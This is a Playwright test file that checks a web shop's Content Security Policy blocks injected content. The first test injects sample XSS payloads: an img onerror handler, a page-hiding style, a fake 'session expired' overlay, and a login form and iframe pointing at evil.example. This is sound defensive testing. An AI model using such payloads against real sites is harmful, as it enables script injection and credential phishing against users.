import { expect, type Page, test } from '../support/browser.js';

/** Opens a separate page, where errors are allowed, and records its content policy violations. */
const watched = async (page: Page) => {
  const refused: string[] = [];
  await page.exposeFunction('refuse', (what: string) => refused.push(what));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile }) => {
      const { refuse } = window as unknown as { refuse: (what: string) => void }; // exposed to the page above
      refuse(`${effectiveDirective} ${blockedURI} ${sourceFile}`);
    });
  });
  return refused;
};

test('content injected into a page cannot run, style the page or send data elsewhere', async ({
  browser,
}) => {
  const page = await browser.newPage();
  const refused = await watched(page);
  await page.goto('/');
  await page.getByRole('banner').waitFor();
  await page.evaluate(() => {
    const slip = document.createElement('div');
    slip.innerHTML = `
      <img src="data:," onerror="window.owned = 'handler'">
      <style>#root { display: none }</style>
      <p style="position: fixed; inset: 0">Your session has expired</p>
      <form action="https://evil.example"><button>Log in</button></form>
      <iframe src="https://evil.example"></iframe>`;
    document.body.append(slip);
    const script = document.createElement('script');
    script.textContent = "window.owned = 'script'";
    document.body.append(script);
    slip.querySelector('form')?.submit();
  });
  await expect
    .poll(() => new Set(refused.map((line) => line.split(' ', 1)[0])))
    .toEqual(
      new Set([
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
        'style-src-attr',
        'form-action',
        'frame-src',
      ]),
    );

  expect(await page.evaluate(() => 'owned' in window)).toBe(false);
  const shown = (root: Element) => getComputedStyle(root).display;
  expect(await page.$eval('#root', shown)).not.toBe('none');
  await page.close();
});

// The shop's own pages are seen in every journey, which a refusal in the console fails.
test('what the page that describes the API needs is let through', async ({ page }) => {
  const refused = await watched(page);
  await page.goto('/api/docs');
  await expect(page.getByRole('heading', { name: /Tokri/ })).toBeVisible({ timeout: 30_000 });
  expect(refused).toEqual([]);
});
